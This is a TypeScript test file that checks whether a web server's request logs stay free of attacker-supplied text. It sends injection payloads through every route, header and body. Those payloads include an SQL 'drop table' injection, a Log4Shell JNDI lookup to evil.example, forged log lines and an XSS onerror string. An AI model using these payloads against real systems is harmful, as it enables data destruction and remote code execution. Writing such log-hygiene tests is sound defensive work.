import { sql } from 'drizzle-orm'
import { beforeAll, expect, test } from 'vitest'
import { doors } from '../../server/doors.ts'
import { access } from '../../server/organizers/access.ts'
import { anOpenCampaign } from '../builders.ts'
import { estamos } from '../estamos.ts'
import { localMode } from '../start/local-mode.ts'
import type { Run } from '../start/processes.ts'
import { reached } from './reached.ts'

const server = estamos()
const local = localMode()
let run: Run
let slug: string

/** A server of its own, which says all that it ever says. */
beforeAll(async () => {
  slug = await anOpenCampaign(server)
  const { secretKey: SECRET_KEY } = server.config
  run = local.start({
    DATABASE_URL: server.databaseUrl,
    SECRET_KEY,
    ROLE: 'web',
    LOG: 'requests',
    CAPTCHA: 'none',
    TRUST_PROXY: '127.0.0.1',
  })
  await run.says('is ready')
})

const CANARY = 'kanarienvogel'
/** For a database, a shell, a log, a terminal, and whoever reads the ticket. */
const words = [
  `' or 1=1; drop table pledges; --${CANARY}`,
  `\${jndi:ldap://evil.example/${CANARY}}`,
  `"}\n{"level":60,"msg":"${CANARY}"}`,
  `\u001b[31m${CANARY}`,
  `<img src=x onerror=alert('${CANARY}')>`,
  `Call +1 555 0100 about ${CANARY}`,
]

test('C24: an attacker’s words, sent wherever words can be sent, and into faults of ours too, reach no line that an operator reads', async () => {
  await server.deps.db.execute(
    sql`alter table pledges add constraint refuses_all check (campaign_id < 0) not valid`,
  )
  const routes = [...Object.keys(doors), ...Object.keys(access)].filter(
    (route) => !route.endsWith('/live') && !route.startsWith('OPTIONS'),
  )
  const from = run.said().length
  let asked = 0
  const statuses = new Set<number>()

  for (const [n, route] of routes.entries()) {
    const [method = '', pattern = ''] = route.split(' ')
    const said = words[n % words.length]!
    const url = pattern.replace(':slug', slug).replaceAll(/:\w+|\*/g, encodeURIComponent(said))
    for (const body of method === 'GET' || method === 'DELETE' ? [undefined] : bodiesOf(said)) {
      asked += 1
      const answer = await fetch(
        `http://localhost:${local.port}${url}?${encodeURIComponent(said)}=${encodeURIComponent(said)}`,
        {
          method,
          headers: headersOf(said, body),
          redirect: 'manual',
          ...(body !== undefined && { body }),
        },
      )
      statuses.add(answer.status)
      await answer.arrayBuffer()
    }
  }
  await fetch(`http://localhost:${local.port}/the-last-one`)
  await expect
    .poll(() => run.said().slice(from).split('"route":"none"').length, { timeout: 10_000 })
    .toBeGreaterThan(1)

  const lines = run.said().slice(from).trim().split('\n')
  expect(statuses).toContain(500)
  expect(run.said()).toContain('refuses_all')
  expect(run.said()).not.toContain(CANARY)
  expect(lines.every((line) => typeof JSON.parse(line).level === 'number')).toBe(true)
  expect(lines.length).toBeLessThanOrEqual(2 * asked + 1)
  reached(
    'C24',
    `${asked} requests full of an attacker’s words, faults of ours among them: ${lines.length} lines, and none of his words in any`,
  )
})

function bodiesOf(said: string): string[] {
  const email = `${CANARY}@example.edu`
  return [
    JSON.stringify({ email, name: said, [said]: said, token: said, code: said, campaign: said }),
    JSON.stringify({ email }),
    `${said}{`,
    new URLSearchParams({ email, name: said, about: said, token: said }).toString(),
  ]
}

function headersOf(said: string, body = ''): Record<string, string> {
  const safe = said.replaceAll(/[^\x20-\x7e]/g, '')
  return {
    'user-agent': safe,
    referer: safe,
    cookie: `my-pledge=${CANARY}; organizer=${CANARY}`,
    'x-forwarded-for': safe,
    'accept-language': safe,
    'content-type': body.startsWith('email=') ? 'application/x-www-form-urlencoded' : 'application/json',
    [`x-${CANARY}`]: safe,
  }
}
